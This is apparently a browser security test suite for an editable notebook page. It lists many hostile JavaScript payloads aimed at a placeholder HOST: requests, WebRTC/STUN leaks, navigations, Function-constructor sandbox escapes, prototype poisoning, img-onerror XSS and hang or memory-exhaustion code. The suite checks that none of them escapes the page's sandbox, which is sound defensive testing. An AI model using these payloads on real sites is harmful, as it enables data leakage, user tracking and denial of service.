import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Page } from "playwright-core";
import { expect } from "vitest";
import { long } from "../../long.js";
import { run, write } from "./atEditor.js";
import { payoff } from "./editing.js";
import type { Open } from "./visit.js";
import { startWitness } from "./witness.js";

/** JavaScript that a cell gets at where no rule sees it. */
const hidden = (code: string): string =>
  `[].constructor.constructor(${JSON.stringify(`return ${code}`)})()`;

/** Ways to another address, which no content policy governs. */
const leaving = [
  'location.href = "http://HOST"',
  'location.replace("http://HOST")',
  'location = "http://HOST"',
  'window.open("http://HOST")',
  'open("http://HOST", "_self")',
  'make("a", { href: "http://HOST" }).click()',
  'make("a", { href: "http://HOST", target: "_blank" }).click()',
  'make("a", { href: "http://HOST", target: "_blank" }).dispatchEvent(new MouseEvent("click"))',
  'put("a", { href: "http://HOST", target: "_blank", innerHTML: "<b>a</b>" }).firstChild.click()',
  'make("area", { href: "http://HOST", target: "_blank" }).click()',
  'put("svg", { innerHTML: `<a href="http://HOST" target="_blank"><text>a</text></a>` }).firstChild.dispatchEvent(new MouseEvent("click"))',
  'put("meta", { httpEquiv: "refresh", content: "0;url=http://HOST" })',
  'put("form", { action: "http://HOST" }).submit()',
  'put("form", { action: "http://HOST", target: "_blank" }).requestSubmit()',
  'navigation.navigate("http://HOST")',
  'put("form", { action: "http://HOST", innerHTML: "<button>" }).firstChild.click()',
  'put("iframe").contentWindow.parent.location.assign("http://HOST")',
];

/** Ways to ask a host for something, or to tell it that somebody is there. */
const sending = [
  'fetch("http://HOST")',
  'Object.assign(new XMLHttpRequest()).open("GET", "http://HOST")',
  "{ const x = new XMLHttpRequest(); x.open('GET', 'http://HOST'); x.send() }",
  'new WebSocket("ws://HOST")',
  'new EventSource("http://HOST")',
  'new WebTransport("https://HOST")',
  'navigator.sendBeacon("http://HOST", "x")',
  'import("http://HOST/a.js")',
  'new Worker("http://HOST/a.js")',
  'new SharedWorker("http://HOST/a.js")',
  'new Worker(URL.createObjectURL(new Blob([`fetch("http://HOST")`])))',
  'new Worker(URL.createObjectURL(new Blob([`importScripts("http://HOST/a.js")`])))',
  'navigator.serviceWorker.register("http://HOST/a.js")',
  'new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] })',
  "stun(window.webkitRTCPeerConnection ?? window.RTCPeerConnection)",
  'new Image().src = "http://HOST/a.png"',
  'new Audio("http://HOST/a.mp3").play()',
  'put("video", { src: "http://HOST/a.mp4", poster: "http://HOST/a.png" })',
  'put("object", { data: "http://HOST" })',
  'put("embed", { src: "http://HOST" })',
  'put("script", { src: "http://HOST/a.js" })',
  'put("script", { type: "module", textContent: `import "http://HOST/a.js"` })',
  'put("link", { rel: "stylesheet", href: "http://HOST/a.css" })',
  'put("link", { rel: "prefetch", href: "http://HOST/a" })',
  'put("link", { rel: "preload", as: "image", href: "http://HOST/a" })',
  'put("link", { rel: "modulepreload", href: "http://HOST/a.js" })',
  'put("link", { rel: "manifest", href: "http://HOST/a" })',
  'put("link", { rel: "icon", href: "http://HOST/a.png" })',
  'put("style", { textContent: "@import url(http://HOST/a.css); @font-face { font-family: f; src: url(http://HOST/a.woff) } body { font-family: f; background: url(http://HOST/a.png) }" })',
  'new FontFace("f", "url(http://HOST/a.woff)").load()',
  'put("base", { href: "http://HOST" }) && put("img", { src: "a.png" })',
  'put("svg", { innerHTML: `<image href="http://HOST/a.png"/><use href="http://HOST/a.svg#a"/>` })',
  'put("a", { ping: "http://HOST", href: "#a" }).click()',
];

/** Such ways of which a host hears more than once, or late. */
const sendingLong = [
  'put("iframe").contentWindow.fetch("http://HOST")',
  'put("iframe", { srcdoc: `<img src="http://HOST/a.png"><script>fetch("http://HOST")</script>` })',
  'put("link", { rel: "preconnect", href: "http://HOST" })',
  'put("link", { rel: "dns-prefetch", href: "http://HOST" })',
  'put("script", { type: "speculationrules", textContent: `{"prefetch":[{"urls":["http://HOST/a"]}],"prerender":[{"urls":["http://HOST/b"]}]}` })',
  'put("iframe", { src: "file:///tmp/attack.html" })',
];

/** What a frame can do that nobody has seen coming, and the page cannot keep from it. */
const byFrame = [
  'put("iframe", { src: "http://HOST" })',
  'stun(put("iframe").contentWindow.RTCPeerConnection)',
  'put("iframe").contentWindow.open("http://HOST")',
];

/** Files of a disk, whose addresses may lead to another computer. */
const fromDisk = [
  'put("script", { src: "DISK/attack.js" })',
  'import("DISK/attack.js")',
  'put("link", { rel: "stylesheet", href: "DISK/attack.css", onload: reach })',
  'put("img", { src: "DISK/attack.svg", onload: reach })',
  'put("object", { data: "DISK/attack.svg", onload: reach })',
  'put("svg", { innerHTML: `<image href="DISK/attack.svg"/>` }).firstChild.onload = reach',
  'fetch("DISK/attack.js").then(reach)',
  'new FontFace("f", "url(DISK/attack.woff2)").load().then(reach)',
];

/** Puts there what they ask for. */
function attackFiles(): string {
  const folder = mkdtempSync(join(tmpdir(), "attack-"));
  const files = {
    "attack.js": "globalThis.reached = true;",
    "attack.css": "body { color: red; }",
    "attack.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
    "attack.woff2": readFileSync("dist/edition/assets/fonts/KaTeX_Main-Regular.woff2"),
  };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
  return folder;
}

/** Cells that no rule refuses, and that harm all others where nothing else stops them. */
const harmful = [
  hidden('fetch("http://HOST")'),
  hidden("stun(RTCPeerConnection)"),
  hidden("stun(put('iframe').contentWindow.RTCPeerConnection)"),
  '(async () => 1).constructor("return fetch(`http://HOST`)")()',
  '(function* () {}).constructor("return fetch(`http://HOST`)")().next()',
  '(async function* () {}).constructor("return fetch(`http://HOST`)")().next()',
  'Object.getOwnPropertyDescriptor(Object.getPrototypeOf(() => 1), "constructor")!.value("return top")()',
  'Reflect.construct(Object.getPrototypeOf(() => 1).constructor as never, ["return top"])',
  "Object.assign(Object.getPrototypeOf([]), { push: () => 1 })",
  'Object.defineProperty(Object.getPrototypeOf(""), "trim", { value: () => 1 })',
  'Reflect.set(Object.getPrototypeOf({}), "title", 1)',
  "Object.assign(Object.getPrototypeOf(new Map()), { get: () => 1 })",
  "Object.assign(Object.getPrototypeOf([].values()), { next: () => ({ done: true }) })",
  "Object.assign(Object.getPrototypeOf(Promise.resolve()), { then: () => 1 })",
  'Reflect.set(Error, "prepareStackTrace", (_: unknown, all: { getThis(): unknown }[]) => all[0]!.getThis())',
  'Reflect.set(JSON, "stringify", () => 1)',
  "Object.freeze(Object.getPrototypeOf({}))",
  "Object.setPrototypeOf(Object.getPrototypeOf([]), { then: 1 })",
  "(() => { const dear = [cutoff]; Object.freeze(dear); dear.push(1); })()",
  'show(md`<img src="http://HOST/a.png"> ![a](http://HOST/a.png) <meta http-equiv="refresh" content="0;url=http://HOST">`)',
  'show("<img src=http://HOST/a.png onerror=fetch(`http://HOST`)>")',
  'show({ ...gameTree({}), caption: "<img src=http://HOST/a.png>", alt: `"><img src=http://HOST/a.png>` })',
  'show({ ...gameTree({}), layout: { ...gameTree({}).layout, images: [{ source: "http://HOST/a.png", x: 0, y: 0, sizex: 9, sizey: 9 }] } })',
  'show({ ...gameTree({}), layout: { ...gameTree({}).layout, title: { text: `<a href="http://HOST" target="_blank">a</a>`, font: { family: "url(http://HOST/a.woff)" } } } })',
  'show("x".repeat(10_000_000))',
  "(() => { const deep = (n: number): number => deep(n + 1) + 1; return deep(0); })()",
  "(() => { const o = { get again(): number { return this.again; } }; return o.again; })()",
  "(() => { outer: for (;;) { for (;;) { continue outer; } } })()",
  "[...(function* () { for (;;) yield 1; })()].length",
  "(() => { let x = 1; do x += 1; while (x > 0); return x; })()",
  "await (async function again(): Promise<number> { await 1; return again(); })()",
  "new Array(4_294_967_296)",
  '"x".repeat(2 ** 40)',
  "new Proxy({}, { get: () => { throw new RangeError(); } })",
  "{ get then() { throw new RangeError(); } }",
];

/** What an attack has at hand, as code of the page. */
const tools = `
globalThis.make = (name, more = {}) => Object.assign(document.createElement(name), more);
globalThis.put = (name, more) => {
  const made = name === "svg" ? document.createElementNS("http://www.w3.org/2000/svg", "svg") : make(name);
  document.body.append(Object.assign(made, more));
  return made;
};
globalThis.reach = () => (globalThis.reached = true);
globalThis.stun = async (Connection) => {
  const connection = new Connection({ iceServers: [{ urls: "stun:HOST" }] });
  connection.createDataChannel("a");
  await connection.setLocalDescription(await connection.createOffer());
};
`;

/** A page that does not answer for longer hangs, in milliseconds: no attack takes as long. */
const longest = 30_000;

/** Whether a task ends in time. */
async function ends(task: Promise<unknown>): Promise<boolean> {
  let timer: NodeJS.Timeout;
  const late = new Promise<false>((resolve) => (timer = setTimeout(resolve, longest, false)));
  return Promise.race([task.then(() => true), late]).finally(() => clearTimeout(timer));
}

/** Hostile edits, and hostile code in the page itself, against a host that hears whatever comes. */
export function attacks(open: Open, address: (file: string) => string): void {
  const game = address("edition/02-the-game.html");
  const original = async (page: Page, source: string): Promise<void> => {
    const output = (): Promise<string> =>
      page.evaluate(
        () => document.querySelector('[data-cell="payoff"] .output')?.textContent ?? "",
      );
    await expect.poll(output, { message: source, timeout: 20_000 }).toContain("(2.3)");
  };
  /** Tries each in a page that is edited, a new one where the last may be gone, and tells what came of it. */
  const tryAll = async (
    codes: readonly string[],
    isAnew: boolean,
    act: (page: Page, code: string, host: string) => Promise<void>,
  ): Promise<string[]> => {
    const witness = await startWitness();
    const faults: string[] = [];
    let page: Page | undefined;
    try {
      for (const each of codes) {
        if (!page) {
          ({ page } = await open(game));
          await page.context().setOffline(false);
          await write(page, "payoff", payoff("7"));
          await run(page, "payoff");
          await page.evaluate(tools.replaceAll("HOST", witness.host));
        }
        const before = witness.heard();
        if (!(await ends(act(page, each.replaceAll("HOST", witness.host), witness.host)))) {
          faults.push(`hangs the page: ${each}`);
          break;
        }
        if (witness.heard() > before) faults.push(`reaches a host: ${each}`);
        if (page.url().replace(/#.*/, "") !== game) faults.push(`leaves the page: ${each}`);
        if (
          !isAnew &&
          (await page.evaluate(
            () =>
              Reflect.has(globalThis, "reached") && Reflect.deleteProperty(globalThis, "reached"),
          ))
        )
          faults.push(`takes a file: ${each}`);
        const others = page.context().pages().length - 1;
        if (others > 0) faults.push(`opens another page: ${each}`);
        if (!isAnew && others === 0) continue;
        await page.context().close();
        page = undefined;
      }
    } finally {
      witness.close();
      await page?.context().close();
    }
    return faults;
  };

  long(
    "lets no hostile edit reach a host, change what others rely on, leave the page or take the original away",
    async () => {
      const faults = await tryAll(harmful, false, async (page, code) => {
        await write(page, "payoff", `${payoff("gamma")}\n// @ts-ignore\nconst stolen = ${code};`);
        await run(page, "payoff");
        await page.evaluate(() =>
          [...document.querySelectorAll<HTMLElement>("#tray button")]
            .find((each) => each.textContent === "Undo all edits")!
            .click(),
        );
        await original(page, code);
      });
      expect(faults).toEqual([]);
    },
    400_000,
  );

  /** As if no rule had seen it. */
  const inThePage = async (page: Page, code: string): Promise<void> => {
    await page.evaluate(
      (each) =>
        // The page may be gone before it could answer.
        void setTimeout(() => void (async () => (0, eval)(each) as unknown)().catch(() => 0), 20),
      code,
    );
    await page.waitForTimeout(300);
  };
  long(
    "holds code in the page that the rules have not seen",
    async () => {
      expect(await tryAll(sending, false, inThePage)).toEqual([]);
      expect(await tryAll(leaving, true, inThePage)).toEqual([]);
      expect(await tryAll(sendingLong, true, inThePage)).toEqual([]);
      const folder = attackFiles();
      const disk = fromDisk.map((each) => each.replaceAll("DISK", pathToFileURL(folder).href));
      // README says that these are so.
      const files = await tryAll(disk, false, inThePage);
      expect(files.length > 0, files.join()).toBe(!open.inChromium);
      rmSync(folder, { recursive: true });
      const frames = await tryAll(byFrame, true, inThePage);
      expect(frames.length).toBeGreaterThan(0);
    },
    400_000,
  );
}
